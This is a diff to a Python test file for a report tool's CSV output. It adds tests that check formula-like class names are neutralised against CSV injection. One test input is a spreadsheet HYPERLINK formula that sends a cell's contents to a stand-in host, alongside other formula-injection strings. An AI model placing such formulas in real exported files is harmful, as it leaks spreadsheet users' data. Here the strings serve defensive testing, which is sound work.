@@ -5,6 +5,7 @@ import csv
 import io
 import json
 import math
+import os
 import re
 import subprocess
 import sys
@@ -29,7 +30,8 @@ def rendered(tmp_path):
 
 
 def read_csv(path) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(path.read_text())))
+    with open(path, newline="") as handle:  # a \r inside a cell is data
+        return list(csv.DictReader(handle))
 
 
 def test_every_table_of_the_page_is_written_and_named_by_the_page(rendered):
@@ -115,6 +117,27 @@ def test_names_from_the_data_stay_text_in_the_csv(tmp_path):
     assert rows[1]["name"] == 'two, "quoted"\nand a line' and len(rows) == len(docs["evaluation.json"]["per_class"])
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://example.invalid/?leak="&A1)', "+1+cmd", "-2+3", "@SUM(A1:A9)",
+                                  "\t=1", "\r=1"])
+def test_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path, name):
+    """The OWASP rule for CSV injection: a class named like a formula is shown as text by a spreadsheet."""
+    docs = copy.deepcopy(documents())
+    docs["evaluation.json"]["class_names"][1] = name
+    store = write_store(tmp_path / "stores", docs)
+    pipeline.render(pipeline.RenderPlan(tmp_path, store, ("html",)))
+    cells = [row["name"] for row in read_csv(tmp_path / "tables" / "class_accuracy.csv")]
+    assert cells[1] == "'" + name
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    every = "".join((tmp_path / "tables" / f).read_text() for f in os.listdir(tmp_path / "tables") if f.endswith(".csv"))
+    assert "\n" + name not in every and "," + name not in every  # nowhere as a bare cell
+
+
+def test_numbers_held_as_text_stay_numbers_in_the_csv():
+    from report.render.tables import _cell
+
+    assert [_cell(v) for v in ("-3.5", "+2", "-1e-05", -3, -2.5, "-x")] == ["-3.5", "+2", "-1e-05", "-3", "-2.5", "'-x"]
+
+
 def _history_store(tmp_path, name, accuracy, silhouette, epoch):
     docs = copy.deepcopy(documents())
     docs["evaluation.json"]["accuracy"] = accuracy
@@ -147,7 +170,9 @@ def test_clean_removes_the_tables_and_keeps_a_file_of_the_users(rendered):
     prepare(out)
     (out / "tables" / "mine.csv").write_text("a\n1\n")
     removed, kept = clean(out)
-    assert "tables/parameters.csv" in removed and "tables/index.csv" in removed and kept == ["tables/mine.csv"]
+    assert "tables/parameters.csv" in removed and "tables/index.csv" in removed
+    # the synthetic store is named "synthetic", which no store of the tool is (they are named by a 16-digit key)
+    assert sorted(kept) == ["stores/synthetic", "tables/mine.csv"]
 
 
 def test_parquet_is_made_once_per_table_content_and_the_cache_keeps_the_last_reports_only(tmp_path, monkeypatch):
